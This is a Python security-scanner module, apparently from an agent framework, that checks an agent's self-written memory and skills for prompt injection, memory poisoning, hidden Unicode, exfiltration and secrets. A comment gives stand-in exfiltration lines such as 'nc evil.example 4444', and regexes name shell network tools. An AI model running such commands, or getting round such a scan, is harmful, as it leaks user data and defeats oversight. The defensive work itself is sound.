"""Security scan for everything the agent writes to itself (memory entries, USER.md, skills).

What the agent saves today enters a system prompt tomorrow, so text is scanned when it is written (every
write rescans the whole file) and again when it is loaded. The rules are data, in `scan_rules`: prompt
injection, command worms, hidden content, exfiltration, persistence, destructive commands (skills), plus
secrets in clear (`hermes_engine.secrets`, the very spans `redact` replaces). The allowances are
data too, in `scan_allowances`.

Severity. Outside code every finding is "high". Inside code (a fenced block or an inline code span)
injection and worm wording is "low": a skill that documents prompt injection shows such phrases as
examples. Exfiltration, persistence, destructive commands and secrets stay "high" inside code, because a
skill's code is what the agent runs. Hidden markup inside code is shown as written, so it is not a finding.

Fairness comes from precise rules plus two exemptions, both data or documented here:
- a service's own key sent to the hosts it documents, or to this machine (`scan_allowances.SERVICES`), and a
  download piped into an interpreter that reads it as data (`scan_allowances.FORMATTERS`);
- a deny list: a command quoted as an item of a list labelled deny/block/never/dangerous…, or named right
  after "never run", "do not use", "refuses reads of"…, documents what must not happen.

Approval. A "high" finding always blocks. A "low" finding blocks until an admin approves it; the approval
is recorded by fingerprint (the rule and the code span it sits in) in `ApprovedHashes`, under HERMES_HOME,
so later writes that keep that code are not flagged again. A scan asked with `ScanMode(approved_by=…)` (an
admin approving a queued change) accepts and records its low findings.

Strictness. The writes of a turn that read untrusted content (web pages, MCP results, a file a person sent)
are scanned with `ScanMode(strict=True)`: text that came from outside may be trying to plant itself in memory
or a skill. The writer says so (the memory and skill tools pass their `ToolContext.untrusted`), because a
mode read from the surroundings is one no signature shows and every caller inherits unasked.

On load (`scan_on_load`) only "high" findings block: such text is shown as `[blocked entry: <rules>]`; a
"low" finding could only have been written with an admin's approval, or by hand by someone with access to
the files. A load is scanned the same whoever reads it, never strictly: what it gives (a prompt, a skill's
parse cached by the library) is shared by every turn.

API (imported by memory, skills and the CLI):
    scan(text, kind, mode) -> ScanResult   every finding with its severity; .blocking, .blocked, .explain()
    scan_text(text, kind, mode) -> list[Finding]   the findings that block a write (empty: it may be saved)
    scan_on_load(text, kind) -> str    the text, or its `[blocked entry: …]` placeholder
    blocked_on_load(text, kind)        the findings behind that placeholder (a skill file is then not loaded)
    ScanMode(strict, approved_by)      how a write is scanned; `ORDINARY` by default. `strict`: every rule of
                                       every kind applies (with the rules kept for such turns,
                                       `scan_rules.UNTRUSTED`: sending, forwarding or copying to an address)
                                       and a low finding blocks, approved or not; `approved_by`: low findings
                                       are accepted and recorded as that admin's
    ApprovedHashes                     the store of approved fingerprints
    BlockedContent, explain, placeholder
"""

from __future__ import annotations

import bisect
import functools
import hashlib
import re
import unicodedata
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field

from hermes_engine.policy.approved import ApprovedHashes
from hermes_engine.policy.lookalikes import unmask
from hermes_engine.policy.scan_allowances import SERVICES
from hermes_engine.policy.scan_rules import DESCRIPTIONS, HIGH, KINDS, LOW, RULES, Rule
from hermes_engine.secrets import find_secrets, mask

__all__ = ["ApprovedHashes", "BlockedContent", "Finding", "HIGH", "INVISIBLE_RANGES", "KINDS", "LOW", "ORDINARY",
           "RULES", "ScanMode", "ScanResult", "blocked_on_load", "explain", "placeholder", "scan", "scan_on_load",
           "scan_text"]


@dataclass(frozen=True)
class ScanMode:
    """How a write is scanned, said by whoever asks for the write (see the module docstring)."""

    strict: bool = False  # the writer's turn read untrusted content: every rule of every kind, low findings block
    approved_by: str | None = None  # an admin's decision: low findings are accepted and recorded under this name


ORDINARY = ScanMode()


@dataclass(frozen=True)
class Finding:
    """One hit. `excerpt` never holds a secret in clear; `fingerprint` names what an admin approves."""

    rule: str
    excerpt: str
    severity: str = HIGH
    fingerprint: str = ""


@dataclass(frozen=True)
class ScanResult:
    findings: tuple[Finding, ...] = ()
    approved: frozenset[str] = field(default_factory=frozenset)  # fingerprints an admin accepted

    @property
    def blocking(self) -> tuple[Finding, ...]:
        return tuple(f for f in self.findings if f.severity == HIGH or f.fingerprint not in self.approved)

    @property
    def blocked(self) -> bool:
        return bool(self.blocking)

    def explain(self) -> str:
        return explain(self.blocking)


class BlockedContent(Exception):
    """Raised by writers that refuse content; `findings` says why, `str(exc)` is `explain(findings)`."""

    def __init__(self, findings: Iterable[Finding], message: str | None = None) -> None:
        self.findings: tuple[Finding, ...] = tuple(findings)
        super().__init__(message or explain(self.findings))


# --- hidden characters ---------------------------------------------------------------------------------

INVISIBLE_RANGES: tuple[tuple[int, int], ...] = (
    (0x200B, 0x200F),  # zero-width space/non-joiner/joiner, LRM, RLM
    (0x202A, 0x202E),  # bidi embeddings and overrides
    (0x2060, 0x2064),  # word joiner, invisible operators
    (0x2066, 0x2069),  # bidi isolates (same attack as the overrides)
    (0xFEFF, 0xFEFF),  # BOM / zero-width no-break space
    (0xE0000, 0xE007F),  # tag characters ("ASCII smuggling")
)
_INVISIBLE = re.compile("[" + "".join(f"\\U{lo:08x}" if lo == hi else f"\\U{lo:08x}-\\U{hi:08x}"
                                      for lo, hi in INVISIBLE_RANGES) + "]")
_ZWJ = "\u200d"


def _emoji(char: str) -> bool:
    return unicodedata.category(char) == "So" or 0x1F3FB <= ord(char) <= 0x1F3FF


def _hidden_chars(text: str) -> list[tuple[int, str]]:
    """Invisible characters, except a zero-width joiner inside an emoji sequence (👩‍💻 is one emoji)."""
    found = []
    for match in _INVISIBLE.finditer(text):
        at, char = match.start(), match.group()
        if char == _ZWJ:
            before, after = text[:at].rstrip("\ufe0f")[-1:], text[at + 1:at + 2]
            if before and after and _emoji(before) and _emoji(after):
                continue
        found.append((at, char))
    return found


# --- compiled rules and the places they are judged in --------------------------------------------------

_FLAGS = re.I | re.M
_Compiled = tuple[Rule, re.Pattern[str], re.Pattern[str] | None]


@functools.cache
def _compiled(kind: str | None) -> list[_Compiled]:
    """The rules for `kind` (every rule once when None), compiled on the first scan: compiling them all takes
    about 0.1 s, which a gateway starting up would otherwise spend before its first answer, whether or not
    anything is scanned."""
    return [(rule, re.compile(rule.pattern, _FLAGS), re.compile(rule.within, _FLAGS) if rule.within else None)
            for rule in RULES if kind is None or kind in rule.kinds]


def _matches(pattern: re.Pattern[str], within: re.Pattern[str] | None, text: str) -> Iterator[re.Match[str]]:
    """Matches of `pattern`, or (with `within`) the matches of `within` whose group 1 holds one."""
    if within is None:
        yield from pattern.finditer(text)
        return
    for outer in within.finditer(text):
        if pattern.search(outer.group(1)):
            yield outer


_SERVICE_VARS = [(service, re.compile(service.variables)) for service in SERVICES]
_ANY_KEY = {s.name for s in SERVICES if s.variables == r"\w+"}  # places any key may go (this machine, the LAN)
# A URL whose host is a variable: the endpoint the person configured (their own server), unless the text sets it.
_VARIABLE_HOST = re.compile(r"(?:^|[\s\"'=(])\$\{?([A-Z][A-Z0-9_]*)\}?(?:[/:\"'\s]|$)")
# Words that start a variable name without naming a service (`API_KEY`, `MY_TOKEN`, `AUTH_HEADER`).
_GENERIC_PREFIXES = {"api", "app", "access", "auth", "bearer", "client", "key", "my", "private", "secret", "token",
                     "user", "password", "pass", "service", "session", "oauth", "personal", "default", "local"}
_FENCE = re.compile(r"^[ \t]{0,3}(`{3,}|~{3,})(.*)$", re.M)
_INLINE_CODE = re.compile(r"(`+)(?!`)([^`\n]+?)(?<!`)\1(?!`)")
_URL_HOST = re.compile(r"\bhttps?://(?:[^\s/@\"'<>)]*@)?(\[[^\]\s]+\]|[^\s/:\"'<>)?#]+)", re.I)
# Hosts named without a URL: `nc evil.example 4444`, `scp f me@evil.example:`, `ssh host`.
_BARE_HOST = re.compile(r"\b(?:nc|ncat|netcat|socat|telnet|ssh|sftp|ftp)\s+(?:-\S+\s+)*"
                        r"([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+)|"
                        r"\b(?:scp|rsync|sftp|ssh)\b[^\n|;&]*?[\w.-]@([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+)")
_VARIABLE = re.compile(r"\$\{?([A-Z][A-Z0-9_]*)\}?|os\.(?:environ(?:\.get)?\s*[\[(]|getenv\()\s*[\"']([A-Z0-9_]+)"
                       r"|process\.env\.([A-Z0-9_]+)")
_NEGATED = re.compile(
    r"\b(?:never|don'?t|do\s+not|must\s+not|mustn't|should\s+not|shouldn't|cannot|can'?t|refuse\s+to|avoid)\s+"
    r"(?!(?:forget|hesitate|fail|neglect|skip|stop)\b)(?:[\w-]+\s+){0,4}?(?:run|running|execute|executing|use|using|"
    r"type|call|invoke|paste|read|reading|print|cat|open|try|do|commands?)\b|"
    r"\b(?:refuses?|blocks?|denies|forbids?|prohibits?|rejects?)\s+(?:\w+\s+){0,2}?(?:reads?|runs?|calls?|commands?|"
    r"access|writes?)\b", re.I)
_DENY_LABEL = re.compile(r"deny|denied|block|black\s*list|forbid|disallow|never|refuse|dangerous|prohibit|banned|"
                         r"reject|unsafe|not\s+allowed", re.I)
_QUOTED = re.compile(r"\"[^\"\n]*\"|'[^'\n]*'|`[^`\n]*`")
_LIST_ITEM = re.compile(r"^\s*(?:[-*+]|\d+[.)])\s")


def _code_spans(text: str) -> list[tuple[int, int]]:
    """Fenced blocks (an unclosed fence runs to the end, as Markdown renders it) and inline code spans."""
    blocks: list[tuple[int, int]] = []
    opened: tuple[str, int, int] | None = None
    for match in _FENCE.finditer(text):
        fence = match.group(1)
        if opened is None:
            opened = (fence[0], len(fence), match.start())
        elif fence[0] == opened[0] and len(fence) >= opened[1] and not match.group(2).strip():
            blocks.append((opened[2], match.end()))
            opened = None
    if opened is not None:
        blocks.append((opened[2], len(text)))
    spans = list(blocks)
    for match in _INLINE_CODE.finditer(text):
        if not any(start <= match.start() < end for start, end in blocks):
            spans.append(match.span())
    return sorted(spans)


@dataclass
class _Text:
    """The folded text being scanned, with where its code is."""

    text: str
    spans: list[tuple[int, int]]
    starts: list[int]

    @classmethod
    def of(cls, text: str) -> _Text:
        spans = _code_spans(text)
        return cls(text, spans, [s for s, _ in spans])

    def code_at(self, at: int) -> tuple[int, int] | None:
        i = bisect.bisect_right(self.starts, at) - 1
        return self.spans[i] if i >= 0 and at < self.spans[i][1] else None

    def line_at(self, at: int) -> tuple[int, int]:
        end = self.text.find("\n", at)
        return self.text.rfind("\n", 0, at) + 1, len(self.text) if end < 0 else end

    def unit(self, at: int) -> str:
        """What a finding belongs to: its code span, else its line."""
        start, end = self.code_at(at) or self.line_at(at)
        return self.text[start:end]


# --- exemptions ----------------------------------------------------------------------------------------

def _serves(entry: str, host: str) -> bool:
    """A host entry matches itself and its subdomains; one ending in "." is an address prefix ("10.")."""
    return host.startswith(entry) if entry.endswith(".") else host == entry or host.endswith("." + entry)


def _host_services(host: str) -> set[str]:
    host = host.lower()
    return {s.name for s in SERVICES if any(_serves(entry, host) for entry in s.hosts)}


def _service_allows(doc: _Text, match: re.Match[str], mode: str) -> bool:
    """A service's own key sent to the hosts that service documents (or to this machine) is an API call."""
    line_start, line_end = doc.line_at(match.start())
    hosts: set[str] = set()
    for place in (match.group(), doc.text[line_start:line_end], doc.unit(match.start())):
        hosts = {h.lower() for h in _URL_HOST.findall(place)}
        hosts |= {h.lower() for pair in _BARE_HOST.findall(place) for h in pair if h}
        if hosts:
            break
    variables = {next(g for g in m.groups() if g) for m in _VARIABLE.finditer(match.group())}
    variables = {v for v in variables if re.search(r"KEY|TOKEN|SECRET|PASS|CREDENTIAL|COOKIE", v)}
    if variables:
        for variable in variables:
            owners = {s.name for s, names in _SERVICE_VARS if names.fullmatch(variable)} - _ANY_KEY
            for host in hosts:
                served = _host_services(host)
                if not served & _ANY_KEY and not owners & served and not _named_for(variable, host):
                    return False
            if not hosts and not owners and not _configured_endpoint(doc, match):
                return False
        return True
    if not hosts:
        return False
    served_all = set.intersection(*(_host_services(h) for h in hosts))
    if not served_all:
        return False
    words = _URL_HOST.sub(" ", match.group())
    mentioned = {s.name for s in SERVICES if s.name not in _ANY_KEY and re.search(rf"\b{re.escape(s.name)}\b", words,
                                                                                   re.I)}
    return mentioned <= served_all and (bool(mentioned) or mode == "hosts")


def _named_for(variable: str, host: str) -> bool:
    """`GIPHY_API_KEY` to `api.giphy.com`: a key whose name starts with a service's name, sent to a host of
    that name, is that service's key going home (the rule the `SERVICES` table spells out, for any service)."""
    word = variable.split("_", 1)[0].lower()
    labels = host.lower().split(".")
    if len(labels) < 2:
        return False
    # The registered name: the label before the top-level domain (before "co.uk" and the like too).
    name = labels[-3] if len(labels) >= 3 and labels[-2] in {"co", "com", "org", "net", "ac", "gov"} else labels[-2]
    return len(word) >= 3 and word not in _GENERIC_PREFIXES and word == name


def _configured_endpoint(doc: _Text, match: re.Match[str]) -> bool:
    """A key sent to a URL whose host is a variable (`"$HASS_URL/api/states"`) goes to the server the person
    configured, unless the text itself sets that variable to an outside address."""
    line_start, line_end = doc.line_at(match.start())
    place = doc.unit(match.start()) + "\n" + doc.text[line_start:line_end]
    names = set(_VARIABLE_HOST.findall(place)) - {v for m in _VARIABLE.finditer(match.group())
                                                 for v in m.groups() if v}
    if not names:
        return False
    for name in names:
        for assigned in re.finditer(rf"\b{name}\s*[=:]\s*[\"']?(https?://\S+)", doc.text):
            hosts = {h.lower() for h in _URL_HOST.findall(assigned.group(1))}
            if any(not _host_services(h) & _ANY_KEY for h in hosts):
                return False
    return True


def _in_deny_list(doc: _Text, match: re.Match[str]) -> bool:
    """Quoted as an item of a deny list, or named right after "never run" and the like: documentation."""
    text, start, end = doc.text, match.start(), match.end()
    line_start, line_end = doc.line_at(start)
    clause = re.split(r"[.!?]\s|\n", text[max(line_start, start - 160):start])[-1]
    if _NEGATED.search(clause):
        return True
    line = text[line_start:line_end]
    quoted = any(q.start() <= start - line_start and end - line_start <= q.end() for q in _QUOTED.finditer(line))
    if not quoted:
        return False
    in_brackets = "[" in line[:start - line_start] or "(" in line[:start - line_start]
    labels = [line[:start - line_start]] if in_brackets else []
    if _LIST_ITEM.match(line) or in_brackets:
        previous = text[max(0, line_start - 2000):line_start].splitlines()[-10:]
        for above in reversed(previous):
            if above.strip() and not _LIST_ITEM.match(above) and not above.strip().startswith(("```", "~~~")):
                labels.append(above)
                break
    return any(_DENY_LABEL.search(label) for label in labels)


# --- the scan ------------------------------------------------------------------------------------------

_EXCERPT_CHARS = 60


def _excerpt(text: str) -> str:
    text = " ".join(text.split())
    return text if len(text) <= _EXCERPT_CHARS else text[: _EXCERPT_CHARS - 1] + "…"


def _codepoints(chars: Iterable[str]) -> str:
    seen = sorted({ord(c) for c in chars})
    listed = ", ".join(f"U+{c:04X}" for c in seen[:5])
    return listed + (", …" if len(seen) > 5 else "")


def _fingerprint(rule: str, unit: str) -> str:
    return hashlib.sha256(f"{rule}\0{' '.join(unit.split())}".encode()).hexdigest()[:16]


def _fold(text: str) -> str:
    """Invisible characters removed ("ig\u200bnore" reads "ignore"), NFKC applied (full-width "ｉｇｎｏｒｅ"
    reads "ignore"), lookalike letters and spelled-out words read as plain ones (`lookalikes.unmask`) and
    shell line continuations joined (a command split over lines is one command)."""
    return unmask(unicodedata.normalize("NFKC", _INVISIBLE.sub("", text))).replace("\\\n", "  ")


def _check_kind(kind: str) -> None:
    if kind not in KINDS:
        raise ValueError(f"scan: kind must be one of {KINDS}, not {kind!r}")


def scan(text: str, *, kind: str = "memory", mode: ScanMode = ORDINARY,
         approvals: ApprovedHashes | None = None) -> ScanResult:
    """Every finding in `text`, in order of appearance (one per rule and place), with approvals applied.

    `kind` is "memory" or "skill" (skills add destructive commands); `mode` is how strictly, and whether an
    admin approves (`ScanMode`). `approvals` defaults to the store under HERMES_HOME."""
    _check_kind(kind)
    if not text:
        return ScanResult()
    hits: list[tuple[int, Finding]] = []
    hidden = _hidden_chars(text)
    if hidden:
        hits.append((hidden[0][0], Finding("invisible_unicode", _codepoints(c for _, c in hidden))))

    doc = _Text.of(_fold(text))
    secrets = find_secrets(doc.text)
    hits.extend((s.start, Finding("secret", s.describe())) for s in secrets)
    strict = mode.strict
    for rule, pattern, within in _compiled(None if strict else kind):
        for match in _matches(pattern, within, doc.text):
            code = doc.code_at(match.start())
            severity = rule.in_code if code else HIGH
            if severity is None:
                continue
            if rule.services and _service_allows(doc, match, rule.services):
                continue
            if rule.denylist and _in_deny_list(doc, match):
                continue
            excerpt = _excerpt(mask(doc.text, secrets, match.start(), match.end()))
            hits.append((match.start(), Finding(rule.id, excerpt, severity,
                                                _fingerprint(rule.id, doc.unit(match.start())))))
    hits.sort(key=lambda h: h[0])
    findings = tuple(dict.fromkeys(f for _, f in hits))
    if strict or not any(f.severity == LOW for f in findings):
        return ScanResult(findings)
    store = approvals or ApprovedHashes.default()
    if mode.approved_by is not None:
        store.approve([f for f in findings if f.severity == LOW], by=mode.approved_by)
    return ScanResult(findings, store.fingerprints())


def scan_text(text: str, *, kind: str = "memory", mode: ScanMode = ORDINARY) -> list[Finding]:
    """The findings that block writing `text` (empty: it may be saved). See `scan`."""
    return list(scan(text, kind=kind, mode=mode).blocking)


def placeholder(findings: Iterable[Finding | str]) -> str:
    """`[blocked entry: <rule>, …]`: what the model sees instead of text that failed the scan."""
    rules = dict.fromkeys(f if isinstance(f, str) else f.rule for f in findings)
    return f"[blocked entry: {', '.join(rules)}]"


def blocked_on_load(text: str, *, kind: str = "memory") -> list[Finding]:
    """The findings that keep loaded text out of a prompt: the high ones (see the module docstring)."""
    return [f for f in scan(text, kind=kind).findings if f.severity == HIGH]


def scan_on_load(text: str, *, kind: str = "memory") -> str:
    """`text` as it may enter a prompt: itself, or a placeholder naming the rules of its high findings."""
    high = blocked_on_load(text, kind=kind)
    return placeholder(high) if high else text


def explain(findings: Iterable[Finding]) -> str:
    """One sentence for the model saying why the content was blocked."""
    findings = list(findings)
    if not findings:
        return "Nothing was blocked."
    reasons: list[str] = []
    for f in findings:
        what = DESCRIPTIONS.get(f.rule, f"a suspicious pattern ({f.rule})")
        if not any(r.startswith(what) for r in reasons):
            reasons.append(f'{what}: "{f.excerpt}"' if f.excerpt else what)
    listed = reasons[0] if len(reasons) == 1 else "; ".join(reasons[:-1]) + "; and " + reasons[-1]
    if all(f.severity == LOW for f in findings):
        prints = " ".join(dict.fromkeys(f.fingerprint for f in findings))
        return (f"Held for an admin because it contains {listed} inside code — an admin accepts it with "
                f"`hermes-gateway security approve {prints}` (or approves the queued change), else remove it.")
    return (f"Blocked because it contains {listed} — saved text enters future system prompts, so store only "
            f"plain declarative facts or procedures without such content.")
